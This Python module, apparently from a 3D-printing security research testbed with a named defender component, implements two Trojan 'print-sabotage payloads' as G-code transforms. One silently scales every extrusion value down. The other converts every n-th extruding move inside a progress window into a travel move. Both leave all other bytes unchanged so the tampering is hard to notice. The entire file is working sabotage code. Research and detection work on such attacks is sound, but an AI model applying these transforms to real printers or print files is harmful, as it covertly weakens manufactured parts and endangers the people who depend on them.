"""The two print-sabotage payloads as whole-file text transforms.

The transforms are the readable reference for the interceptor in uart.py,
which makes the same edits one byte at a time under its 15-byte state
budget.  Both follow its token rule, which commits on a value's first
digit and never looks ahead.  Lines end at LF only.  In a move (head
`` *G0*1 ``) each ``E`` that follows a space in the code part, before any
';', is a target as long as its value has a digit
(fixedpoint.VALUE_PATTERN); an ``E`` with no digit ends the line's
targets, and what follows a value does not matter (``G1 E5x``).  In a
line headed `` *M0*73 `` the first `` P`` reports progress if its value
has a digit; `` *M0*83`` not followed by a digit switches to relative
extrusion.  A value the payload reads (a target under reduction, a
percentage under relocation) past the 32-bit budget sends the
interceptor dormant: from that value on, the document passes through
unchanged.  So does a switch to relative extrusion under relocation.
audit.account, the defender, reads the strict grammar of gcode.py
instead.

The token rule is one pattern per letter, ``(?:[^ ;\\n]| (?!E))* E`` and
then the value, matched from the space that ends a head or from the end
of the last value.  The repeated part takes any byte but a space, a ';'
or an LF, and a space only when no ``E`` follows it; so the match stops
at the first `` E`` of the code part, never passes a comment or the
line's end, and fails where that `` E`` has no digit, which ends the
line's targets.  A move's first target is found in the same match as its
head.

Each transform takes exactly the parameters a Trojan build carries, and
refuses any other with the ValueError of TamperPolicy, which both build
their policy through.  Material reduction scales every target by
(100 - p) / 100 for a whole percent p.  Material relocation converts the
move holding every n-th target inside the progress window to travel,
dropping that target; with absolute extrusion values the next target
deposits the difference.  A converted target's filament is deposited
exactly when an absolute target follows it before any G92, M83 or the
end of the print; otherwise it is lost, and total material with it.
After a switch to relative extrusion no target would catch up a
dropped one, so relocation stops editing there, as the interceptor does.
"""

from __future__ import annotations

import re
from fractions import Fraction

from .fixedpoint import VALUE_PATTERN, FixedPointOverflow, div_round_half_away, format_raw, raw_from_digits
from .policy import Mode, TamperPolicy
from .uart import F_WINDOW_ACTIVE, update_window


def _target(letter: str) -> str:
    """The token rule's pattern for the line's next target of this letter
    (see the module docstring); its groups are VALUE_PATTERN's."""
    return r"(?:[^ ;\n]| (?!" + letter + "))* " + letter + VALUE_PATTERN


_E = re.compile(_target("E"))
_P = re.compile(_target("P"))
# a move, up to its first target
_MOVE = re.compile(r"^ *G0*1(?= )" + _target("E"), re.M)
# a move, whose command digit is group 1; a progress report or a switch to
# relative extrusion, told apart by group 2
_HEAD = re.compile(r"^ *(?:G0*(1) |M0*(73 |83(?![0-9])))", re.M)


def transform_reduction(doc: str, fraction) -> str:
    """Scale every target of every move by (1 - fraction), where fraction
    is a whole percent as TamperPolicy.reduction takes it.

    Everything else - other parameters, other lines, comments, whitespace,
    line endings - is reproduced byte-for-byte.  Edited values are written
    in canonical minimal form (trailing zeros trimmed, <= 4 decimals).
    """
    kept = 100 - TamperPolicy.reduction(fraction).param
    out = []
    done = 0  # doc[:done] is in out
    for value in _MOVE.finditer(doc):
        while value is not None:
            try:
                raw = raw_from_digits(*value.groups(""))
            except FixedPointOverflow:
                return "".join(out) + doc[done:]  # dormant
            scaled = div_round_half_away(raw * kept, 100)
            out += (doc[done : value.start(1)], format_raw(scaled))
            done = value.end()
            value = _E.match(doc, done)
    return "".join(out) + doc[done:]


def transform_relocation(
    doc: str, n: int, window_lo: int = TamperPolicy.window_lo, window_hi: int = TamperPolicy.window_hi
) -> str:
    """Convert the move holding every n-th target inside the window to a
    travel move: drop that target with its letter and space, and write 0
    over the command digit.  n is 2-4 and the window as
    TamperPolicy.relocation takes them.  From a switch to relative
    extrusion on, the document passes through unchanged.
    """
    TamperPolicy.relocation(n, window_lo, window_hi)  # ValueError unless a build carries it
    window = 0  # F_WINDOW_* flags, as in the interceptor
    counter = 0
    out = []
    done = 0  # doc[:done] is in out
    for head in _HEAD.finditer(doc):
        start = head.end() - 1
        if head[1] is not None:
            if not window & F_WINDOW_ACTIVE:
                continue
            slot = head.start(1)
            while (value := _E.match(doc, start)) is not None:
                start = value.end()
                counter += 1
                if counter < n:
                    continue
                counter = 0
                if done <= slot:  # the line's first conversion
                    out += (doc[done:slot], "0")
                    done = slot + 1
                out.append(doc[done : value.start(1) - 2])  # up to the space before E
                done = start
        elif head[2] == "73 ":
            value = _P.match(doc, start)
            if value is not None:
                try:
                    raw = raw_from_digits(*value.groups(""))
                except FixedPointOverflow:
                    break  # dormant
                window = update_window(window, raw, window_lo, window_hi)
        else:
            break  # dormant: relative extrusion
    return "".join(out) + doc[done:]


def apply_policy(doc: str, policy: TamperPolicy) -> str:
    """Whole-file reference semantics for a policy."""
    if policy.mode is Mode.REDUCTION:
        return transform_reduction(doc, Fraction(policy.param, 100))
    if policy.mode is Mode.RELOCATION:
        return transform_relocation(doc, policy.param, policy.window_lo, policy.window_hi)
    return doc
